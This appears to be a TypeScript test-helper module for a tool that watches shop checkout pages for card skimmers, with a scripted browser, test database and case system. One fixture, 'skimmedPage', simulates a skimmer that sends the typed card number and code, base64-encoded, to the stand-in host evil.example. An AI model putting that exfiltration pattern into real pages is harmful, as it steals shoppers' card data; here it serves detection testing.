/** For tests: the room with the real database, log and cases, and a browser that gives back what a test wrote down. */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path, { join } from 'node:path';
import { Client } from 'pg';
import { type Cases, createCases } from '#cases';
import { createEvidence, type Evidence } from '#evidence';
import {
  durationOfMs,
  failed,
  type Instant,
  instantOfMs,
  makeId,
  ok,
  type PartyId,
  type PersonId,
  type Scope,
  Secret,
  type TenantId,
} from '#kernel';
import {
  type Browser,
  BrowserFailure,
  type Preflight,
  type SeenScript,
  type SentRequest,
  type VisitOrder,
  type VisitRecord,
} from '#platform/browser';
import { DownloadFailure } from '#platform/egress';
import type { NewId } from '#platform/random';
import { type SimulatedClock, simulatedClock } from '../platform/clock/simulated.ts';
import { clientConfigOf } from '../platform/database/connection.ts';
import { openTestDatabase, type TestDatabase } from '../platform/database/testing.ts';
import { openSealedFileKeys } from '../platform/keys/sealed-file.ts';
import { openFolderObjects } from '../platform/objects/folder.ts';
import type { Objects } from '../platform/objects/port.ts';
import { newIdSource } from '../platform/random/new-id.ts';
import { seededRandom } from '../platform/random/seeded.ts';
import { createOutbox } from '../platform/stream/outbox.ts';
import { loadPaymentProviders, type PaymentProviders } from './core/payment-providers.ts';
import { createSiteWatch, type SiteWatch, type SiteWatchOptions } from './index.ts';
import { readScript } from './inventory/core/read-units.ts';
import { readingKey } from './inventory/core/take-inventory.ts';
import type { ReadScripts } from './inventory/take-stock.ts';
import type { DescribedSite } from './sent.ts';

export const START: Instant = instantOfMs(Date.UTC(2026, 10, 21, 9));
export const ORIGIN = 'https://shop.example';

export const JOURNEY = `
name: shop
destinations: [pay.example]
steps:
  - name: checkout
    open: /checkout
  - name: number
    fill: '#n'
    value: '{{canary.number}}'
  - name: code
    fill: '#c'
    value: '{{canary.securityCode}}'
  - name: filled
    screenshot: true
`;

export const aSite = (changes: Partial<DescribedSite> = {}): DescribedSite => ({
  name: 'つばめ屋',
  origin: ORIGIN,
  paymentType: 'js',
  journey: JOURNEY,
  consent: { kind: 'own-site' },
  merchants: [],
  cadenceMinutes: 60,
  active: true,
  ...changes,
});

/** What a page does with what is typed into it. */
export type Page = (
  typed: { readonly number: string; readonly code: string },
  order: VisitOrder,
) => Partial<VisitRecord>;

const PNG = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
);

export const aScript = (url: string, source: string, changes: Partial<SeenScript> = {}): SeenScript => ({
  url,
  inline: false,
  startLine: 0,
  startColumn: 0,
  frameUrl: `${ORIGIN}/checkout`,
  source,
  sha256: createHash('sha256').update(source).digest('hex'),
  step: 0,
  ...changes,
});

export const aRequest = (url: string, body: string, changes: Partial<SentRequest> = {}): SentRequest => ({
  url,
  method: 'POST',
  kind: 'fetch',
  headers: { 'content-type': 'application/json' },
  body: new TextEncoder().encode(body),
  bodyIncomplete: false,
  frameUrl: `${ORIGIN}/checkout`,
  step: 2,
  stack: [],
  at: START,
  refused: false,
  ...changes,
});

export const SHOP_SCRIPT = aScript(`${ORIGIN}/shop.js`, 'shop()');
export const SKIMMER = aScript(`${ORIGIN}/checkout`, 'skim()', { inline: true, startLine: 40, startColumn: 8 });

/** Pays as it should. */
export const honestPage: Page = ({ number, code }) => ({
  scripts: [SHOP_SCRIPT],
  requests: [aRequest('https://pay.example/tokens', JSON.stringify({ number, code }))],
});

/** Pays as it should, and sends the card elsewhere too, in base64. */
export const skimmedPage: Page = (typed, order) => {
  const stolen = Buffer.from(JSON.stringify(typed)).toString('base64');
  const stack = [{ url: SKIMMER.url, line: 40, column: 10 }];
  const honest = honestPage(typed, order);
  return {
    scripts: [SHOP_SCRIPT, SKIMMER],
    requests: [...(honest.requests ?? []), aRequest('https://evil.example/c', stolen, { stack })],
  };
};

/** What stands in the two places where proof of ownership is looked for. */
export type ScriptedPlaces = Pick<SiteWatchOptions, 'textRecords' | 'downloads'> & {
  /** By name; a text by address. */
  readonly records: Map<string, readonly string[]>;
  readonly files: Map<string, string>;
};

const scriptedPlaces = (): ScriptedPlaces => {
  const [records, files] = [new Map<string, readonly string[]>(), new Map<string, string>()];
  return {
    ...{ records, files },
    textRecords: {
      of: async (name) => {
        const found = records.get(name);
        return found === undefined ? failed('no-record') : ok(found);
      },
    },
    downloads: {
      fetch: async ({ url }, take) => {
        const text = files.get(url);
        if (text === undefined) throw new DownloadFailure('status-not-ok');
        const read = async function* () {
          yield new TextEncoder().encode(text);
        };
        return take({ ...{ url, redirects: 0, address: '', mediaType: 'text/plain', read }, tls: NO_TLS });
      },
    },
  };
};

const NO_TLS = { protocol: '', cipher: '', certificateSha256: '', subject: '', issuer: '', validTo: '' };

/** Walks no page: gives back what `page` makes of the order. */
export type ScriptedBrowser = Browser & {
  page: Page;
  preflightResult: Preflight;
  readonly orders: { readonly order: VisitOrder; readonly sandbox: 'required' | 'off' }[];
};

export const scriptedBrowser = (clock: SimulatedClock): ScriptedBrowser => {
  const browser: ScriptedBrowser = {
    page: honestPage,
    preflightResult: { kind: 'ready', browser: 'Chromium 156', sandboxed: true },
    orders: [],
    preflight: async () => browser.preflightResult,
    visit: async (order, sandbox) => {
      browser.orders.push({ order, sandbox });
      const { kind } = browser.preflightResult;
      if (kind === 'no-browser') throw new BrowserFailure('no-browser');
      if (kind === 'no-sandbox' && sandbox === 'required') throw new BrowserFailure('no-sandbox');
      const values = order.steps.flatMap((step) => (step.act === 'fill' ? [step.value] : []));
      const [number = '', code = ''] = values;
      return {
        end: { kind: 'completed' },
        startedAt: clock.now(),
        endedAt: clock.now(),
        requests: [],
        scripts: [],
        documents: [],
        screenshots: [{ name: 'filled', step: 3, png: PNG }],
        browser: 'Chromium 156',
        sandboxed: sandbox === 'required',
        ...browser.page({ number, code }, order),
      };
    },
  };
  return browser;
};

export type TestWatch = {
  readonly database: TestDatabase;
  readonly clock: SimulatedClock;
  readonly newId: NewId;
  readonly evidence: Evidence;
  readonly cases: Cases;
  readonly objects: Objects;
  readonly folder: string;
  readonly browser: ScriptedBrowser;
  readonly places: ScriptedPlaces;
  readonly watch: SiteWatch;
  readonly failures: unknown[];
  /** The room as another process would open it. */
  open(changes?: Partial<SiteWatchOptions>): SiteWatch;
  scope(changes?: Partial<Pick<Scope, 'tenant' | 'parties'>>): Scope & { readonly tenant: TenantId };
  close(): Promise<void>;
};

const watchFromBefore = async ({ administrator }: TestDatabase): Promise<void> => {
  const superuser = new Client(clientConfigOf(administrator));
  await superuser.connect();
  await superuser.query(`alter table site_watch.site alter column earlier_until set default '2100-01-01T00:00:00Z'`);
  await superuser.end();
};

/** @param sites whether those that are added count as watched before proof and consents were asked for. */
export const openTestWatch = async (sites: 'from-before' | 'new' = 'from-before'): Promise<TestWatch> => {
  const database = await openTestDatabase();
  const folder = await mkdtemp(join(tmpdir(), 'mitsuke-site-watch-'));
  const clock = simulatedClock(START);
  const random = seededRandom('site-watch');
  const newId = newIdSource(clock, random);
  const failures: unknown[] = [];
  const onFailure = (error: unknown) => void failures.push(error);
  const objects = await openFolderObjects(join(folder, 'objects'));
  const keys = await openSealedFileKeys({ path: join(folder, 'keys'), sealingSecret: new Secret('for tests only') });
  const evidence = createEvidence({ database, objects, keys, clock, newId, originHost: 'log.example', onFailure });
  const common = {
    database,
    evidence,
    clock,
    random,
    newId,
    software: '0.1.0',
    onCommitted: () => undefined,
    onFailure,
  };
  const cases = createCases({
    ...common,
    outbox: createOutbox([]),
    tenants: async () => [],
    people: { onDuty: async () => undefined, above: async () => undefined, find: async () => [] },
    askForSecond: async () => {
      throw new Error('no second person here');
    },
    notify: { send: async () => undefined },
    objects,
    pdf: { print: async () => ({ kind: 'failed', error: 'busy' }) },
    merchants: { known: async () => new Set(), find: async () => [] },
    consoleUrl: 'http://localhost:7300',
  });
  const browser = scriptedBrowser(clock);
  const places = scriptedPlaces();
  if (sites === 'from-before') await watchFromBefore(database);
  const open = (changes: Partial<SiteWatchOptions> = {}): SiteWatch =>
    createSiteWatch({
      ...common,
      objects,
      browser,
      ...places,
      riskTiers: async () => [],
      cadenceByTier: { low: 10_080, medium: 1_440, high: 240 },
      hostRest: durationOfMs(0),
      readScripts: readHere,
      paymentProviders: testProviders(),
      publicUrl: 'https://mitsuke.example',
      alerts: cases.alerts,
      sources: cases.sources,
      knownMerchants: async (_tx, _tenant, merchants) => new Set(merchants.filter((id) => id !== UNKNOWN_MERCHANT)),
      outbox: createOutbox([{ name: 'test.visits', type: 'site-watch.visit-recorded.v1' }]),
      labHosts: ['shop.localhost', 'psp.localhost', 'collector.localhost'],
      browserSandbox: 'required',
      ...changes,
    });
  return {
    ...{ database, clock, newId, evidence, cases, objects, folder, browser, places, failures, open },
    watch: open(),
    scope: (changes = {}) => ({
      tenant: newId('ten'),
      permissions: new Set(['site:read', 'site:manage', 'case:read', 'case:work'] as const),
      principal: { kind: 'person', id: newId('per') as PersonId },
      ...changes,
    }),
    close: async () => {
      await database.close();
      await rm(folder, { recursive: true });
    },
  };
};

/** Without a thread. */
/** The table that comes with the software. */
const testProviders = (): PaymentProviders => {
  const file = path.resolve(import.meta.dirname, '../../packs/site-watch/payment-providers.yaml');
  const loaded = loadPaymentProviders(readFileSync(file, 'utf8'));
  if (loaded.kind === 'failed') throw new Error('our own table can be read');
  return loaded.value;
};

export const readHere: ReadScripts = async (scripts) =>
  new Map(scripts.map((script) => [readingKey(script), readScript(script.source, script)]));

/** The one merchant that the test house does not have. */
export const UNKNOWN_MERCHANT = makeId('mer', instantOfMs(0), new Uint8Array(10));

export const partyOf = ({ newId }: Pick<TestWatch, 'newId'>): PartyId => newId('pty');
